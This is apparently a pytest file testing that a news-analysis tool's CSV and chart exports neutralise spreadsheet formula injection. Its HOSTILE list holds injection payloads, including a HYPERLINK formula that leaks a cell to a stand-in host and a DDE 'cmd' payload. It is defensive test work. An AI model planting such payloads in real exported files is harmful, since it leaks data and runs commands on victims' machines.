"""Exported tables cannot run as spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import altair as alt
import pandas as pd

from newsdesk.core.export import spreadsheet_safe, write_csv
from newsdesk.present import charts

HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1, "Reuters")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\tTAB", "\rCR"]  # fmt: skip


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_every_text_cell_and_header_that_could_start_a_formula_is_neutralised(tmp_path: Path) -> None:
    frame = pd.DataFrame({"outlet": [*HOSTILE, "Reuters"], "=evil": range(7), "share": [-0.5] * 7})
    rows = _cells(write_csv(frame, tmp_path / "table.csv"))
    assert rows[0] == ["outlet", "'=evil", "share"]
    assert [row[0] for row in rows[1:]] == ["'" + cell for cell in HOSTILE] + ["Reuters"]
    assert {row[2] for row in rows[1:]} == {"-0.5"}  # numbers stay numbers


def test_the_frame_itself_is_left_as_it_was() -> None:
    frame = pd.DataFrame({"outlet": ["=1+1"]})
    assert spreadsheet_safe(frame)["outlet"].tolist() == ["'=1+1"]
    assert frame["outlet"].tolist() == ["=1+1"]


def test_a_chart_exported_with_a_hostile_outlet_name_writes_a_safe_csv(tmp_path: Path) -> None:
    data = pd.DataFrame({"outlet": [HOSTILE[0], "Reuters"], "n": [3, 4]})
    chart = alt.Chart(data).mark_bar().encode(x="n:Q", y="outlet:N")
    paths = charts.save(chart, "hostile", tmp_path)
    table = next(path for path in paths if path.suffix == ".csv")
    assert [row[0] for row in _cells(table)] == ["outlet", "'" + HOSTILE[0], "Reuters"]
